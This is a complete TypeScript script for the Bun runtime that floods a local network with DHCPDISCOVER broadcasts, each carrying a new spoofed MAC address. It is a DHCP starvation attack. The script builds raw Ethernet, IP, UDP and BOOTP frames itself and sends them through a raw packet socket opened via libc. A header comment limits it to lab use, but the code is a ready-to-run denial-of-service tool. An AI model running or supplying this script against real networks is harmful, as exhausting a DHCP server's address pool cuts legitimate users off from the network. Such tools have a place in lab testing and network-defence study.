// A station that asks for addresses under ever new MAC addresses: `dhcp-flood.ts INTERFACE COUNT`. Only for the lab.
import { dlopen, ptr } from "bun:ffi";
import { readFileSync } from "node:fs";

const AF_PACKET = 17;
const SOCK_RAW = 3;
const BROADCAST = [0xff, 0xff, 0xff, 0xff, 0xff, 0xff];

const [device = "", count = "0"] = process.argv.slice(2);
const { socket, sendto } = dlopen("libc.so.6", {
  socket: { args: ["i32", "i32", "i32"], returns: "i32" },
  sendto: { args: ["i32", "ptr", "u64", "i32", "ptr", "u32"], returns: "i64" },
}).symbols;

const descriptor = socket(AF_PACKET, SOCK_RAW, 0);
if (descriptor < 0) throw new Error("no packet socket");
const address = new DataView(new ArrayBuffer(20));
address.setUint16(0, AF_PACKET, true);
address.setInt32(4, Number(readFileSync(`/sys/class/net/${device}/ifindex`, "utf8")), true);

let sent = 0;
for (let index = 0; index < Number(count); index += 1) {
  const frame = discover([0x06, 0xee, 0, (index >> 16) & 255, (index >> 8) & 255, index & 255], index);
  if (Number(sendto(descriptor, ptr(frame), frame.length, 0, ptr(address.buffer), 20)) === frame.length)
    sent += 1;
  if (index % 100 === 99) await Bun.sleep(10);
}
console.log(`sent ${sent}`);

/** A DHCPDISCOVER (RFC 2131) as a whole Ethernet frame. */
function discover(mac: number[], transaction: number): Uint8Array {
  const frame = new DataView(new ArrayBuffer(14 + 20 + 8 + 240 + 4));
  const bytes = new Uint8Array(frame.buffer);
  bytes.set([...BROADCAST, ...mac, 0x08, 0x00]);
  const ip = 14;
  bytes.set([0x45, 0], ip);
  frame.setUint16(ip + 2, frame.byteLength - ip);
  bytes.set([64, 17], ip + 8);
  bytes.set([255, 255, 255, 255], ip + 16);
  frame.setUint16(ip + 10, checksum(bytes.subarray(ip, ip + 20)));
  const udp = ip + 20;
  frame.setUint16(udp, 68);
  frame.setUint16(udp + 2, 67);
  frame.setUint16(udp + 4, frame.byteLength - udp);
  const bootp = udp + 8;
  bytes.set([1, 1, 6, 0], bootp);
  frame.setUint32(bootp + 4, transaction);
  bytes.set(mac, bootp + 28);
  bytes.set([0x63, 0x82, 0x53, 0x63, 53, 1, 1, 255], bootp + 236);
  return bytes;
}

function checksum(bytes: Uint8Array): number {
  let sum = 0;
  for (let index = 0; index < bytes.length; index += 2)
    sum += ((bytes[index] ?? 0) << 8) | (bytes[index + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum & 0xffff;
}
